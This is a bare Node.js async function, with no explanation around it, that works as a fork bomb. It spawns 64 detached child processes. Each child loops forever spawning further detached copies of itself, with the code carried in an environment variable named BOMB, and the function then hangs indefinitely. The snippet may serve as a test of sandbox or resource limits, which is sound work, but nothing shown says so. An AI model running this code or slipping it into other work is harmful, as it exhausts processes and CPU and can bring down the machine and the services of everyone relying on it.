async () => {
  const { spawn } = require('child_process');
  const script = `const { spawn } = require('child_process');
    const again = () => { try { spawn(process.execPath, ['-e', process.env.BOMB], { stdio: 'ignore', detached: true }).on('error', () => {}); } catch {} };
    for (;;) again();`;
  for (let i = 0; i < 64; i++) {
    spawn(process.execPath, ['-e', script], { stdio: 'ignore', detached: true, env: { ...process.env, BOMB: script } }).on('error', () => {});
  }
  await new Promise(() => {});
}
